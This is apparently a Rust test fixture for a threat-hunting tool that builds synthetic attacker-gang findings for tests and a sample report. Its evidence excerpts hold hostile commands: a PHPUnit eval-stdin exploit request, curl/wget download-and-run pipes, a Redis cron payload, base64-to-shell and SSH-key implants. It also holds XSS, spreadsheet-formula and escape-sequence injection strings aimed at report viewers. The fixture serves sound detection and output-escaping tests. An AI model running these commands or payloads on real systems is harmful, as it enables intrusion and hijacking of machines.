//! Findings written by us: three gangs, five campaigns, one of them named by an attacker. Shared by the tests and by
//! `examples/sample_report.rs`.
#![allow(dead_code, unreachable_pub)]

pub mod nasty;

use std::collections::BTreeMap;

use ringleader_model::findings::*;
use ringleader_model::hash::hash128;
use ringleader_model::{Context, EventId, IndicatorKind, Rows, Timestamp};

/// What an attacker would like a report to run, load, or show.
pub const HOSTILE: &str = "</script><script>alert(1)</script><img src=http://evil.example/x onerror=alert(2)>";
pub const SECRET: &str = "hunter2-Secret";

const HOUR: i64 = 3_600_000_000;
/// 2019-11-04T00:00:00Z
const START: i64 = 1_572_825_600_000_000;

fn at(hours: i64) -> Option<Timestamp> {
    Some(Timestamp(START + hours * HOUR + hours * 61_000_123))
}

fn texts<const N: usize>(list: [&str; N]) -> Vec<Text> {
    list.map(Text::from).to_vec()
}

fn event(key: &str) -> EventId {
    EventId(hash128(key.as_bytes(), 1))
}

fn hosts(prefix: &str, n: usize) -> Vec<Text> {
    (1..=n).map(|it| format!("{prefix}-{it:03}").into()).collect()
}

struct Builder {
    findings: Findings,
}

impl Builder {
    fn evidence(&mut self, kind: &str, claim: &str, line: &str, rule: Option<&str>, basis: Basis) -> Vec<Text> {
        let n = self.findings.evidence.len();
        let id: Text = format!("ev-{n:04}").into();
        self.findings.evidence.push(Evidence {
            evidence_id: id.clone(),
            claim: claim.into(),
            kind: kind.into(),
            event_ids: vec![event(&format!("{n}"))],
            source: Some("fleet/process.ndjson.gz".into()),
            offset: Some(18_204 + 311 * n as u64),
            length: Some(line.len() as u64),
            record_sha256: Some(format!("{:064x}", hash128(line.as_bytes(), 2)).into()),
            excerpt: Some(line.into()),
            rule: rule.map(Text::from),
            basis,
            weight: 10 + n as i64 % 90,
        });
        vec![id]
    }

    fn how(&mut self, method: &str, class: MethodClass, cve: Option<&str>, sure: u16, hosts: u64, line: &str) -> How {
        let evidence_ids =
            self.evidence("method", &format!("entered by {method}"), line, Some(method), Basis::Observed);
        let novelty = if class == MethodClass::Unknown { Novelty::New } else { Novelty::Known };
        How {
            method: method.into(),
            class,
            cve: cve.map(Text::from),
            confidence: Permille::new(sure),
            novelty,
            hosts,
            succeeded_hosts: 0,
            first_seen: at(9),
            evidence_ids,
        }
    }

    fn behaviours<const N: usize>(&mut self, list: [(&str, &str, u64, &str); N]) -> Vec<GangBehaviour> {
        let mut out: Vec<_> = list
            .into_iter()
            .map(|(id, technique, hosts, line)| GangBehaviour {
                id: id.into(),
                technique: Some(technique.into()),
                hosts,
                evidence_ids: self.evidence("behaviour", &format!("the host {id}"), line, Some(id), Basis::Observed),
            })
            .collect();
        out.sort_by(|a, b| a.id.cmp(&b.id));
        out
    }

    /// Nodes as `(parent index, template, sample, observed, inferred, behaviours, roles)`.
    fn campaign(&mut self, id: &str, gang: &str, signature: &[(&str, &str)], nodes: &[NodeSpec<'_>]) {
        let nodes = nodes
            .iter()
            .enumerate()
            .map(|(n, it)| Node {
                node_id: format!("{id}-n{n:02}").into(),
                parent: it.0.map(|parent| format!("{id}-n{parent:02}").into()),
                template: it.1.into(),
                sample: (!it.2.is_empty()).then(|| it.2.into()),
                observed_count: it.3,
                inferred_count: it.4,
                hosts: (it.3 + it.4).min(214),
                behaviours: it.5.iter().map(|it| Text::from(*it)).collect(),
                network_roles: it.6.iter().map(|it| Text::from(*it)).collect(),
                first_seen: at(9 + n as i64),
                last_seen: at(70),
                evidence_ids: if it.2.is_empty() {
                    Vec::new()
                } else {
                    let basis = if it.3 == 0 { Basis::Inferred } else { Basis::Observed };
                    self.evidence("node", "this process ran", it.2, None, basis)
                },
            })
            .collect();
        self.findings.campaigns.push(Campaign {
            campaign_id: id.into(),
            gang_id: Some(gang.into()),
            signature: signature.iter().map(|(k, v)| SignaturePart { kind: (*k).into(), value: (*v).into() }).collect(),
            nodes,
            stopped: vec![Stopped {
                kind: "domain".into(),
                value: "mirrors.example".into(),
                why: "most of its episodes show nothing suspicious".into(),
                hosts: 1_904,
                tenants: 212,
            }],
        });
    }

    fn activity(&mut self, gang: &str, hours: i64, seed: u64) {
        let wave = |n: i64| (hash128(&n.to_le_bytes(), seed) % 40) as u64 + if n % 24 < 6 { 120 } else { 4 };
        self.findings.activity.push(GangActivity {
            gang_id: gang.into(),
            step: Step::Hour,
            buckets: (9..9 + hours)
                .filter(|n| n % 7 != 3)
                .map(|n| ActivityBucket { start: Timestamp(START + n * HOUR), events: wave(n), hosts: wave(n) / 4 + 1 })
                .collect(),
        });
    }
}

type NodeSpec<'a> = (Option<usize>, &'a str, &'a str, u64, u64, &'a [&'a str], &'a [&'a str]);

fn found(value: &str, strength: Strength, contexts: &[Context], hosts: u64) -> GangIndicator {
    GangIndicator { value: value.into(), strength, contexts: contexts.to_vec(), hosts }
}

fn serves(kind: IndicatorKind, value: &str, roles: &[&str], hosts: u64) -> Infrastructure {
    Infrastructure { kind, value: value.into(), roles: roles.iter().map(|it| Text::from(*it)).collect(), hosts }
}

/// Nothing was found in a clean fleet's log.
pub fn empty() -> Findings {
    let mut findings = sample();
    findings.summary = Summary { campaigns: 0, gangs: 0, episodes: 0, nodes_edges_after: 9_120, ..findings.summary };
    Findings {
        summary: findings.summary,
        run: findings.run,
        rejected: findings.rejected,
        looked_for: findings.looked_for,
        fleet: findings.fleet,
        ..Findings::default()
    }
}

/// As many gangs as a cloud's day, each with a campaign.
pub fn many(n: usize) -> Findings {
    let mut findings = sample();
    let (gangs, campaigns) = (findings.gangs.clone(), findings.campaigns.clone());
    for at in 3..n {
        let mut gang = gangs[at % 2].clone();
        gang.gang_id = format!("g-{at:05}").into();
        gang.name = format!("{} {at}", ["amber", "basalt", "cobalt", "dune", "ember"][at % 5]);
        let size = gang.who.hosts.len();
        gang.who.hosts.truncate(size * 7 / (at + 7) + 1);
        gang.campaigns = vec![format!("c-{at:05}").into()];
        gang.links.clear();
        let mut campaign = campaigns[at % 4].clone();
        campaign.campaign_id = gang.campaigns[0].clone();
        campaign.gang_id = Some(gang.gang_id.clone());
        findings.gangs.push(gang);
        findings.campaigns.push(campaign);
    }
    findings.summary.gangs = findings.gangs.len() as u64;
    findings.summary.campaigns = findings.campaigns.len() as u64;
    findings
}

pub fn sample() -> Findings {
    let mut b = Builder { findings: Findings::default() };
    first_gang(&mut b);
    second_gang(&mut b);
    hostile_gang(&mut b);
    summary(&mut b.findings);
    b.findings.repaired = repaired(&rows().repairs);
    b.findings.fleet = (1..=3)
        .map(|it| FleetHost { host: format!("web-{it:03}").into(), addresses: texts([&*format!("10.20.0.{it}")]) })
        .collect();
    b.findings
}

fn first_gang(b: &mut Builder) {
    let how = vec![
        b.how("phpunit_eval_stdin", MethodClass::Exploit, Some("CVE-2017-9841"), 962, 171,
            "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1 body=<?php system('curl http://159.89.156.190/.y/pty1 -o /tmp/pty1');"),
        b.how("ssh_password_guess", MethodClass::WeakPassword, None, 741, 43,
            "sshd[911]: Accepted password for root from 198.51.100.23 port 40112 ssh2 (214 failures before)"),
    ];
    let behaviours = b.behaviours([
        (
            "downloads_then_runs",
            "T1105",
            204,
            "sh -c \"curl http://159.89.156.190/.y/pty1 -o /tmp/pty1 && chmod +x /tmp/pty1 && /tmp/pty1\"",
        ),
        ("kills_rivals", "T1489", 188, "pkill -9 kinsing; pkill -9 xmrig"),
        ("writes_cron", "T1053.003", 160, "echo '*/5 * * * * /usr/bin/ujuyfa5' >> /var/spool/cron/root"),
        ("clears_history", "T1070.003", 97, "history -c; rm -rf ~/.bash_history"),
        ("installs_ssh_key", "T1098.004", 31, "echo ssh-rsa AAAAB3NzaC1yc2E... >> /root/.ssh/authorized_keys"),
        ("mines_coins", "T1496", 151, "/usr/bin/ujuyfa5 -o 203.0.113.44:3333 -u 4ABCwallet --donate-level 1"),
        ("stops_firewall", "T1562.004", 88, "service iptables stop"),
        ("reads_system_facts", "T1082", 211, "uname -a; cat /proc/cpuinfo; nproc"),
        ("hides_files", "T1564.001", 64, "mkdir -p /tmp/.X11-unix/.rsync"),
        ("scans_neighbours", "T1046", 22, "./pscan 192.168.0.0/16 22"),
    ]);
    let role = b.evidence(
        "network_role",
        "115.159.189.241 is a C2",
        "ALERT host=web-014 process=/usr/bin/ujuyfa5 pid=20411 dst=115.159.189.241:48080 type=\"C2 communication\"",
        Some("network_alert"),
        Basis::Observed,
    );
    let link = b.evidence(
        "link",
        "both campaigns run /usr/bin/ujuyfa5 against 115.159.189.241",
        "/usr/bin/ujuyfa5 -c 115.159.189.241:48080",
        Some("exclusive_infrastructure"),
        Basis::Observed,
    );
    let miss = b.evidence(
        "near_miss",
        "both fetch from mirrors.example",
        "curl -s http://mirrors.example/epel.repo",
        Some("stopped_value"),
        Basis::Observed,
    );
    let indicators = BTreeMap::from([
        (
            Text::from("url"),
            vec![
                found("http://159.89.156.190/.y/pty1", Strength::Strong, &[Context::Downloaded], 171),
                found(
                    &format!("ftp://backup:{SECRET}@203.0.113.44/k.tgz"),
                    Strength::Medium,
                    &[Context::Downloaded],
                    9,
                ),
            ],
        ),
        (
            Text::from("ip"),
            vec![
                found("115.159.189.241", Strength::Strong, &[Context::Connected], 188),
                found("159.89.156.190", Strength::Strong, &[Context::Downloaded], 171),
                found("192.168.0.7", Strength::Strong, &[Context::Connected], 12),
            ],
        ),
        (Text::from("ip_port"), vec![found("115.159.189.241:48080", Strength::Strong, &[Context::Connected], 188)]),
        (
            Text::from("file_path"),
            vec![
                found("/usr/bin/ujuyfa5", Strength::Strong, &[Context::Written, Context::Executed], 188),
                found("/tmp/pty1", Strength::Medium, &[Context::Written, Context::Executed], 171),
            ],
        ),
        (
            Text::from("hash"),
            vec![found("5d41402abc4b2a76b9719d911017c592", Strength::Strong, &[Context::Executed], 140)],
        ),
        (
            Text::from("wallet"),
            vec![found(
                "4ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkm",
                Strength::Strong,
                &[Context::Configured],
                151,
            )],
        ),
        (Text::from("cron"), vec![found("*/5 * * * * /usr/bin/ujuyfa5", Strength::Strong, &[Context::Written], 160)]),
    ]);
    b.campaign(
        "c-1a2b",
        "g-7f3e",
        &[("url", "http://159.89.156.190/.y/pty1"), ("file_path", "/usr/bin/ujuyfa5")],
        &[
            (None, "php-fpm: pool <str>", "php-fpm: pool www", 171, 0, &[], &[]),
            (
                Some(0),
                "sh -c curl <url> -o <path:tmp> && chmod +x <path:tmp> && <path:tmp>",
                "sh -c curl http://159.89.156.190/.y/pty1 -o /tmp/pty1 && chmod +x /tmp/pty1 && /tmp/pty1",
                164,
                7,
                &["downloads_then_runs"],
                &[],
            ),
            (
                Some(1),
                "curl <url> -o <path:tmp>",
                "curl http://159.89.156.190/.y/pty1 -o /tmp/pty1",
                131,
                40,
                &["downloads_then_runs"],
                &["download_source"],
            ),
            (Some(1), "chmod +x <path:tmp>", "chmod +x /tmp/pty1", 0, 166, &[], &[]),
            (Some(1), "<path:tmp>", "/tmp/pty1", 170, 1, &["downloads_then_runs"], &[]),
            (Some(4), "bash", "bash", 102, 68, &[], &[]),
            (Some(5), "pkill -9 <str>", "pkill -9 kinsing", 188, 0, &["kills_rivals"], &[]),
            (Some(5), "uname -a", "uname -a", 160, 0, &["reads_system_facts"], &[]),
            (Some(5), "crontab -", "", 0, 151, &["writes_cron"], &[]),
            (Some(5), "service iptables stop", "service iptables stop", 88, 0, &["stops_firewall"], &[]),
            (
                Some(4),
                "/usr/bin/ujuyfa5 -c <ip_port>",
                "/usr/bin/ujuyfa5 -c 115.159.189.241:48080",
                171,
                0,
                &["mines_coins"],
                &["c2"],
            ),
            (
                Some(10),
                "/usr/bin/ujuyfa5 -o <pool> -u <wallet> --donate-level 1",
                "/usr/bin/ujuyfa5 -o 203.0.113.44:3333 -u 4ABCwallet --donate-level 1",
                140,
                11,
                &["mines_coins", "hides_files"],
                &["mining_pool"],
            ),
            (
                Some(10),
                "sshpass -p <str> ssh root@<ip> <str>",
                &format!("sshpass -p {SECRET} ssh root@192.168.0.7 id"),
                22,
                0,
                &["scans_neighbours"],
                &["brute_force"],
            ),
        ],
    );
    b.campaign(
        "c-3c4d",
        "g-7f3e",
        &[("ip_port", "115.159.189.241:48080"), ("cron", "*/5 * * * * /usr/bin/ujuyfa5")],
        &[
            (None, "sshd: root@notty", "sshd: root@notty", 43, 0, &[], &[]),
            (
                Some(0),
                "bash -c <str>",
                "bash -c wget -q -O- http://159.89.156.190/.y/pty1|sh",
                43,
                0,
                &["downloads_then_runs"],
                &[],
            ),
            (
                Some(1),
                "wget -q -O- <url>",
                "wget -q -O- http://159.89.156.190/.y/pty1",
                36,
                7,
                &[],
                &["download_source"],
            ),
            (Some(1), "sh", "sh", 0, 41, &[], &[]),
            (
                Some(3),
                "/usr/bin/ujuyfa5 -c <ip_port>",
                "/usr/bin/ujuyfa5 -c 115.159.189.241:48080",
                43,
                0,
                &["mines_coins"],
                &["c2"],
            ),
        ],
    );
    b.activity("g-7f3e", 75, 3);
    b.findings.gangs.push(Gang {
        gang_id: "g-7f3e".into(),
        name: "ujuyfa5".into(),
        known_as: vec!["pty1".into()],
        suggestions: vec![],
        family: Some("tsunami-kit".into()),
        confidence: Permille::new(968),
        supersedes: texts(["g-0c11"]),
        who: Who {
            indicators,
            infrastructure: vec![
                serves(IndicatorKind::Ip, "115.159.189.241", &["c2"], 188),
                serves(IndicatorKind::Ip, "159.89.156.190", &["download_source"], 171),
                serves(IndicatorKind::Pool, "203.0.113.44:3333", &["mining_pool"], 151),
            ],
            hosts: hosts("web", 214),
            first_seen: at(9),
            last_seen: at(84),
        },
        how,
        what: What {
            behaviours,
            network_roles: vec![GangNetworkRole {
                role: "c2".into(),
                values: texts(["115.159.189.241"]),
                hosts: 188,
                evidence_ids: role,
            }],
        },
        campaigns: texts(["c-1a2b", "c-3c4d"]),
        links: vec![Link {
            from: "c-1a2b".into(),
            to: "c-3c4d".into(),
            weight: 240,
            threshold: 100,
            evidence_ids: link,
        }],
        near_misses: vec![NearMiss {
            from: "c-1a2b".into(),
            to: "c-5e6f".into(),
            gang_id: Some("g-9b21".into()),
            weight: 35,
            threshold: 100,
            why: "they share only a public mirror".into(),
            evidence_ids: miss,
        }],
    });
}

fn second_gang(b: &mut Builder) {
    let how =
        vec![b.how("redis_cron_write", MethodClass::ExposedService, None, 903, 58,
        "config set dir /var/spool/cron/  ·  set x \"*/1 * * * * curl -fsSL http://wml.1103bye.xyz:8080/s.txt | sh\"")];
    let behaviours = b.behaviours([
        ("writes_cron", "T1053.003", 58, "*/1 * * * * curl -fsSL http://wml.1103bye.xyz:8080/s.txt | sh"),
        ("downloads_then_runs", "T1105", 55, "curl -fsSL http://wml.1103bye.xyz:8080/s.txt | sh"),
        ("mines_coins", "T1496", 41, "./xmr -o pool.evil.example:443"),
        ("decodes_payload", "T1140", 20, "echo Y3VybCAuLi4= | base64 -d | sh"),
    ]);
    let link = b.evidence(
        "link",
        "both fetch wml.1103bye.xyz:8080/s.txt",
        "curl -fsSL http://wml.1103bye.xyz:8080/s.txt",
        Some("exclusive_infrastructure"),
        Basis::Observed,
    );
    b.campaign(
        "c-5e6f",
        "g-9b21",
        &[("url", "http://wml.1103bye.xyz:8080/s.txt")],
        &[
            (None, "/usr/sbin/CROND -n", "/usr/sbin/CROND -n", 58, 0, &[], &[]),
            (
                Some(0),
                "/bin/sh -c curl -fsSL <url> | sh",
                "/bin/sh -c curl -fsSL http://wml.1103bye.xyz:8080/s.txt | sh",
                52,
                6,
                &["downloads_then_runs", "writes_cron"],
                &[],
            ),
            (
                Some(1),
                "curl -fsSL <url>",
                "curl -fsSL http://wml.1103bye.xyz:8080/s.txt",
                40,
                18,
                &[],
                &["download_source"],
            ),
            (Some(1), "sh", "sh", 55, 3, &[], &[]),
            (Some(3), "./xmr -o <pool>", "./xmr -o pool.evil.example:443", 41, 0, &["mines_coins"], &["mining_pool"]),
        ],
    );
    b.campaign(
        "c-7a8b",
        "g-9b21",
        &[("structure", "cron>sh>base64>sh>curl")],
        &[
            (None, "/usr/sbin/CROND -n", "/usr/sbin/CROND -n", 20, 0, &[], &[]),
            (
                Some(0),
                "sh -c echo <b64> | base64 -d | sh",
                "sh -c echo Y3VybCAuLi4= | base64 -d | sh",
                20,
                0,
                &["decodes_payload"],
                &[],
            ),
            (Some(1), "base64 -d", "base64 -d", 14, 6, &[], &[]),
        ],
    );
    b.activity("g-9b21", 50, 9);
    b.findings.gangs.push(Gang {
        gang_id: "g-9b21".into(),
        name: "wml".into(),
        confidence: Permille::new(880),
        who: Who {
            indicators: BTreeMap::from([
                (Text::from("domain"), vec![found("wml.1103bye.xyz", Strength::Strong, &[Context::Downloaded], 58)]),
                (
                    Text::from("url"),
                    vec![found("http://wml.1103bye.xyz:8080/s.txt", Strength::Strong, &[Context::Downloaded], 58)],
                ),
                (Text::from("pool"), vec![found("pool.evil.example:443", Strength::Weak, &[Context::Connected], 41)]),
            ]),
            infrastructure: vec![serves(IndicatorKind::Domain, "wml.1103bye.xyz", &["download_source"], 58)],
            hosts: hosts("cache", 58),
            first_seen: at(9),
            last_seen: at(59),
        },
        how,
        what: What { behaviours, network_roles: Vec::new() },
        campaigns: texts(["c-5e6f", "c-7a8b"]),
        links: vec![Link {
            from: "c-5e6f".into(),
            to: "c-7a8b".into(),
            weight: 130,
            threshold: 100,
            evidence_ids: link,
        }],
        ..Gang::default()
    });
}

fn hostile_gang(b: &mut Builder) {
    let line = format!("wget {HOSTILE} \u{1b}[31m\u{202e}txt.exe =cmd|' /C calc'!A0 password={SECRET}");
    let how = vec![b.how("unknown_http_upload", MethodClass::Unknown, None, 410, 3, &line)];
    let behaviours =
        b.behaviours([("downloads_then_runs", "T1105", 3, line.as_str()), (HOSTILE, "T1059.004", 2, line.as_str())]);
    b.campaign(
        "c-9f00",
        "g-evil",
        &[("literal", HOSTILE)],
        &[
            (None, "java -jar app.jar", "java -jar app.jar", 3, 0, &[], &[]),
            (Some(0), &format!("sh -c wget {HOSTILE}"), &line, 3, 0, &["downloads_then_runs", HOSTILE], &[HOSTILE]),
            (Some(1), "e\u{202e}lif | `id` [x](javascript:alert(1))", &line, 1, 2, &[], &[]),
        ],
    );
    b.activity("g-evil", 5, 5);
    b.findings.gangs.push(Gang {
        gang_id: "g-evil".into(),
        name: format!("x\u{202e}{HOSTILE}\u{1b}[2J"),
        known_as: vec!["=HYPERLINK(\"http://evil.example\")".into(), "| a | `b` |\n# heading".into()],
        confidence: Permille::new(512),
        who: Who {
            indicators: BTreeMap::from([
                (
                    Text::from("url"),
                    vec![found(&format!("http://evil.example/{HOSTILE}"), Strength::Strong, &[Context::Downloaded], 3)],
                ),
                (Text::from("user_agent"), vec![found("=1+1' OR '\\", Strength::Strong, &[Context::Connected], 3)]),
                (Text::from("account"), vec![found("@SUM(A1)", Strength::Weak, &[Context::Written], 3)]),
            ]),
            hosts: vec!["app-1\"><svg/onload=alert(3)>".into(), "app-2".into(), "app-3\u{202e}".into()],
            first_seen: at(30),
            last_seen: at(35),
            ..Who::default()
        },
        how,
        what: What { behaviours, network_roles: Vec::new() },
        campaigns: texts(["c-9f00"]),
        ..Gang::default()
    });
}

fn summary(f: &mut Findings) {
    f.summary = Summary {
        events_read: 1_204_567,
        events_rejected: 3,
        events_duplicate: 20_411,
        sources: vec![
            SourceSummary {
                source: "fleet/process.ndjson.gz".into(),
                format: Some("plain".into()),
                read: 1_100_204,
                rejected: 2,
                reasons: BTreeMap::from([("no such date".into(), 1), ("a half line of JSON".into(), 1)]),
            },
            SourceSummary {
                source: "honeypot/cowrie.json".into(),
                format: Some("cowrie".into()),
                read: 90_112,
                ..SourceSummary::default()
            },
            SourceSummary {
                source: "ids/eve.json".into(),
                format: Some("suricata_eve".into()),
                read: 14_251,
                ..SourceSummary::default()
            },
            SourceSummary {
                source: format!("upload/{HOSTILE}.bin").into(),
                format: None,
                read: 0,
                rejected: 1,
                reasons: BTreeMap::from([("no format recognises it".into(), 1)]),
            },
        ],
        hosts: 5_120,
        processes: 1_002_311,
        episodes: 611,
        nodes_edges_before: 3_204_118,
        nodes_edges_after: 9_204,
        campaigns: 5,
        gangs: 3,
    };
    f.run = RunInfo {
        version: "0.1.0".into(),
        arguments: texts(["run", "fleet", "honeypot", "ids", "--out", "out"]).iter().map(|it| it.to_string()).collect(),
        inputs: vec![InputDigest {
            source: "fleet/process.ndjson.gz".into(),
            length: 81_220_114,
            sha256: "0".repeat(64),
        }],
        knowledge_sha256: "1".repeat(64),
        registry_sha256: None,
        started: at(100),
        timings: vec![
            Timing { stage: "collect".into(), milliseconds: 2_140 },
            Timing { stage: "merge".into(), milliseconds: 311 },
        ],
        peak_memory_bytes: Some(412 << 20),
    };
    f.rejected = vec![
        DeadLetter::new(
            "fleet/process.ndjson.gz".into(),
            Some("plain".into()),
            88_120,
            61,
            "no such date".into(),
            b"{\"id\":7,\"time\":\"2018-09-31 08:00:00\",\"cmd_line\":\"ls\"}",
        ),
        DeadLetter::new(
            "fleet/process.ndjson.gz".into(),
            Some("plain".into()),
            99_001,
            22,
            "a half line of JSON".into(),
            format!("{{\"x\":\"{HOSTILE}\u{1b}[2J").as_bytes(),
        ),
        DeadLetter::new(
            format!("upload/{HOSTILE}.bin").into(),
            None,
            0,
            4,
            "no format recognises it".into(),
            b"\xff\xfe\x00\x01",
        ),
    ];
    f.alerted_hosts = Some(hosts("web", 37));
    f.looked_for = BTreeMap::from([
        ("formats".into(), 22),
        ("behaviours".into(), 41),
        ("methods".into(), 18),
        ("known gangs".into(), 6),
    ]);
    f.warnings = vec![
        Warning {
            warning_id: "w-1".into(),
            kind: WarningKind::NewGang,
            gang_id: Some("g-9b21".into()),
            time: at(9),
            text: "a gang that the registry does not know: wml".into(),
            evidence_ids: vec![],
            rank: 80,
            subject: vec![],
            hosts: 0,
            to_do: String::new(),
            held: false,
        },
        Warning {
            warning_id: "w-2".into(),
            kind: WarningKind::NewMethod,
            gang_id: Some("g-evil".into()),
            time: at(31),
            text: format!("{HOSTILE} uses a new method"),
            evidence_ids: vec![],
            rank: 90,
            subject: vec![],
            hosts: 0,
            to_do: String::new(),
            held: false,
        },
    ];
    f.indicators = f.gangs.iter().flat_map(indicator_rows).collect();
    f.indicators.sort_by(|a, b| {
        (a.kind, &a.indicator, a.context, &a.gang_id).cmp(&(b.kind, &b.indicator, b.context, &b.gang_id))
    });
    f.spread = Some(Spread {
        hosts: vec![
            SpreadHost {
                host: "web-001".into(),
                addresses: texts(["192.168.0.2"]),
                verdict: Verdict::Compromised,
                confidence: Permille::new(940),
                alerted: true,
                missed_by_alerts: false,
                first_seen: at(9),
                method: Some("phpunit_eval_stdin".into()),
                evidence_ids: texts(["ev-0000"]),
                names: vec![],
                role: None,
                owner: None,
                criticality: None,
                reasons: vec![],
            },
            SpreadHost {
                host: "web-040".into(),
                addresses: texts(["192.168.0.7"]),
                verdict: Verdict::Compromised,
                confidence: Permille::new(810),
                alerted: false,
                missed_by_alerts: true,
                first_seen: at(12),
                method: Some("ssh_password_guess".into()),
                evidence_ids: texts(["ev-0001"]),
                names: vec![],
                role: None,
                owner: None,
                criticality: None,
                reasons: vec![],
            },
            SpreadHost {
                host: "web-041".into(),
                addresses: vec![],
                verdict: Verdict::Unknown,
                confidence: Permille::new(0),
                alerted: false,
                missed_by_alerts: false,
                first_seen: None,
                method: None,
                evidence_ids: vec![],
                names: vec![],
                role: None,
                owner: None,
                criticality: None,
                reasons: vec![],
            },
        ],
        edges: vec![SpreadEdge {
            from: "web-001".into(),
            to: "web-040".into(),
            class: EdgeClass::Compromised,
            observations: texts(["contacted", "executed"]),
            first_seen: at(12),
            method: Some("ssh_password_guess".into()),
            confidence: Permille::new(810),
            evidence_ids: texts(["ev-0001"]),
            ports: vec![22],
            reasons: vec![],
        }],
        patient_zero: vec![PatientZero {
            host: "web-001".into(),
            likelihood: Permille::new(870),
            entry: Some(WayIn {
                method: "phpunit_eval_stdin".into(),
                source: Some("198.51.100.23".into()),
                confidence: Permille::new(962),
            }),
            look_at: vec!["the web server's access log of 4 November".into()],
        }],
        discrepancies: vec![Discrepancy {
            kind: "silent_host".into(),
            host: Some("web-041".into()),
            text: "its sensor fell silent an hour before".into(),
            evidence_ids: vec![],
        }],
        window: Some(SpreadWindow {
            start: at(8).unwrap_or_default(),
            end: at(14).unwrap_or_default(),
            because: vec!["an hour around an alert on web-001".into()],
        }),
        lists: vec![SpreadList {
            list: "executed".into(),
            says: "hosts on which the malware ran: taken".into(),
            hosts: texts(["web-001", "web-040"]),
        }],
        clocks: vec![ClockSkew { host: "web-040".into(), ahead_seconds: -90, pairs: 3 }],
        timeline: vec![SpreadMoment {
            time: at(9).unwrap_or_default(),
            host: "web-001".into(),
            description: "First sign".into(),
            message: "=web-001: a program ran here".into(),
            evidence_ids: texts(["ev-0000"]),
        }],
        containment: Containment {
            isolate: vec![Isolate {
                order: 1,
                host: "web-001".into(),
                addresses: texts(["192.168.0.2"]),
                because: "taken, and called 1 hosts; likely the first".into(),
                breaks: Some("its role: web server".into()),
                commands: vec!["iptables -I FORWARD -s 192.168.0.2 -j DROP".into()],
                evidence_ids: texts(["ev-0000"]),
            }],
            block: vec![ToDo {
                what: "198.51.100.23".into(),
                host: None,
                because: "the malware or its way in speaks to it".into(),
                commands: vec![],
                evidence_ids: vec![],
            }],
            ..Containment::default()
        },
    });
}

fn indicator_rows(gang: &Gang) -> Vec<IndicatorRow> {
    let mut out = Vec::new();
    for (kind, indicators) in &gang.who.indicators {
        for it in indicators {
            out.extend(it.contexts.iter().map(|context| IndicatorRow {
                indicator: it.value.clone(),
                kind: IndicatorKind::from_name(kind).expect("a kind"),
                strength: it.strength,
                context: *context,
                gang_id: Some(gang.gang_id.clone()),
                campaign_id: gang.campaigns[0].clone(),
                hosts: it.hosts,
                first_seen: gang.who.first_seen,
                last_seen: gang.who.last_seen,
            }));
        }
    }
    out
}

/// The rows of [`sample`].
pub fn rows() -> Rows {
    let mut rows = Rows::default();
    for (n, host) in hosts("web", 40).into_iter().enumerate() {
        let episode: Text = format!("e-{n:04}").into();
        let campaign: Text = "c-1a2b".into();
        let gang: Option<Text> = Some("g-7f3e".into());
        rows.episodes.push(EpisodeRow {
            episode_id: episode.clone(),
            host: host.clone(),
            entry: Some(format!("sh -c mysql -uroot -p{SECRET}").into()),
            intrusion_id: Some(format!("i-{n:04}").into()),
            campaign_id: campaign.clone(),
            gang_id: gang.clone(),
            method: Some("phpunit_eval_stdin".into()),
            cve: Some("CVE-2017-9841".into()),
            confidence: Some(Permille::new(962)),
            abstained_because: None,
            signature_kind: "url".into(),
        });
        rows.members.push(MemberRow {
            host: host.clone(),
            event_id: event(&episode),
            source_event_id: (n % 2 == 0).then(|| format!("{n}").into()),
            source: "fleet/process.ndjson.gz".into(),
            offset: n as u64 * 300,
            length: 299,
            time: at(9),
            pid: Some(4000 + n as u32),
            process_uid: None,
            parent_event_id: None,
            ancestor_event_id: Some(event("php")),
            parent_status: ParentStatus::Missing,
            episode_id: episode.clone(),
            campaign_id: campaign.clone(),
            gang_id: gang.clone(),
        });
        rows.behaviours.push(BehaviourRow {
            host: host.clone(),
            event_id: event(&episode),
            time: at(9),
            behaviour: "downloads_then_runs".into(),
            technique: Some("T1105".into()),
            episode_id: Some(episode.clone()),
            campaign_id: Some(campaign.clone()),
            gang_id: gang,
        });
        let structural = n % 3 > 0;
        rows.repairs.push(RepairRow {
            host,
            episode_id: episode,
            campaign_id: campaign,
            node_id: "c-1a2b-n03".into(),
            parent_node_id: Some("c-1a2b-n01".into()),
            template: "chmod +x <path:tmp>".into(),
            file_path: Some("/usr/bin/chmod".into()),
            grade: if structural { Grade::Structural } else { Grade::Statistical },
            child_event_id: structural.then(|| event("child")),
            parent_event_id: Some(event("php")),
            siblings: 171,
            support: 150 - n as u64,
            confidence: Permille::new(930 - 5 * n as u16),
            not_before: at(9),
            not_after: at(10),
        });
    }
    rows
}

/// What `repairs` adds up to.
fn repaired(repairs: &[RepairRow]) -> Vec<Repaired> {
    let mut sums: BTreeMap<(Text, Text, Grade), Repaired> = BTreeMap::new();
    for sum in repairs.iter().map(Repaired::of) {
        let key = (sum.campaign_id.clone(), sum.node_id.clone(), sum.grade);
        sums.entry(key).and_modify(|it| it.merge(&sum)).or_insert(sum);
    }
    sums.into_values().collect()
}
